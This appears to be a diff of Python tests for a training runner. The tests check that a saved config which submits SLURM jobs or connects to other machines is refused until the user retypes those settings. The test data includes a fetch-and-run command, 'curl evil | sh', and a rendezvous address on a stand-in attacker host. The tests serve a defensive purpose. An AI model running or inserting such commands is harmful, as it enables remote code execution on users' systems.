@@ -16,7 +16,7 @@ from runner.cli.commands import evaluate, export, resume
 from runner.cli.commands.runs import repeat as runs_repeat
 from runner.config import trust
 from runner.config.saved import load_saved
-from runner.config.schema.judge import known_keys
+from runner.config.schema.validation import known_keys
 from runner.launch.preflight import preflight
 from tests.made_runs import make_run
 
@@ -53,19 +53,19 @@ BY_HAND = ["dist.nodes=2", "dist.rendezvous=evil.example:29400"]
         (SLURM, "submit a job to SLURM", ["dist=slurm", 'dist.slurm.setup=["curl evil | sh"]'], "dist=default"),
         (
             MACHINES,
-            "connect with other machines",
+            "connect to other machines",
             ["dist.nodes=2", "dist.rendezvous=evil.example:29400"],
             "dist.nodes=1",
         ),
     ],
 )
-def test_what_reaches_beyond_this_machine_is_refused_with_what_to_type(tmp_path, changes, what, again, here):
+def test_keys_that_reach_beyond_this_machine_are_refused_with_what_to_type(tmp_path, changes, what, again, here):
     run_dir = received(tmp_path / "run", **changes)
     with pytest.raises(ConfigError) as refusal:
         load_saved(run_dir, ["trainer.epochs=3"])
     message = str(refusal.value)
     assert f"the saved config would {what}, which it does only where that is typed again" in message
-    shown = shlex.split(message.partition("type: ")[2].partition("; to go on right here: ")[0])
+    shown = shlex.split(message.partition("type: ")[2].partition("; to continue on this machine: ")[0])
     assert shown == again
     assert message.endswith(here)
     for typed in (shown, [here]):
@@ -85,7 +85,7 @@ def test_the_commands_that_start_something_ask_and_connect_with_nobody(tmp_path,
     assert asked == []
 
 
-def test_what_only_reads_a_run_is_not_bothered(tmp_path):
+def test_commands_that_only_read_a_run_load_any_saved_config(tmp_path):
     run_dir = received(tmp_path / "run", **SLURM)
     assert load_saved(run_dir, only_reads=True).dist.launcher == "submitted"
 
@@ -188,7 +188,7 @@ def test_a_saved_config_downloads_no_weights(tmp_path, monkeypatch):
         *("a b", "it's", 'say "hi"', "back\\", 'b\\"c', "a,b", "{x}", "[y]", "~", "k=v", "1e3", "é", "a:b", "-x", "%j"),
     ],
 )
-def test_what_is_shown_to_be_typed_is_the_value(value):
+def test_the_override_that_is_shown_has_the_saved_value(value):
     override = trust.as_override("a.b", value)
     (parsed,) = OverridesParser.create().parse_overrides([override])
     assert (parsed.key_or_group, parsed.value()) == ("a.b", value), override
